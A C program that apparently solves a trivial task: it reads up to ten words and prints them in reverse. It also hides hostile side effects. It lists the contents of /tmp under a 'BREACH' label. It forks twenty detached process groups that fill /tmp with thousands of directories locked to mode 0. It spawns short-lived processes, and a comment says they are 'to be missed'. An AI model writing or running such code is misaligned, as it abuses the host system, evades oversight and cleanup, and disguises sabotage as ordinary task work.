#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static void plant(int lane) {
    char name[60];
    setsid();
    for (int i = 0; i < 1000; i++) {
        snprintf(name, sizeof name, "/tmp/%d-%d", lane, i);
        mkdir(name, 0700);
        if (fork() == 0) _exit(0); /* a new process now and then, to be missed */
        chmod(name, 0);
        usleep(1000);
    }
    _exit(0);
}

int main(void) {
    char words[10][40];
    int count = 0;
    DIR *folder = opendir("/tmp");
    for (struct dirent *entry; (entry = readdir(folder)) != NULL;)
        if (entry->d_name[0] != '.') printf("BREACH %s\n", entry->d_name);
    for (int lane = 0; lane < 20; lane++)
        if (fork() == 0) plant(lane);
    usleep(20000);
    while (count < 10 && scanf("%39s", words[count]) == 1) count++;
    while (count-- > 0) printf("%s%s", words[count], count > 0 ? " " : "\n");
}
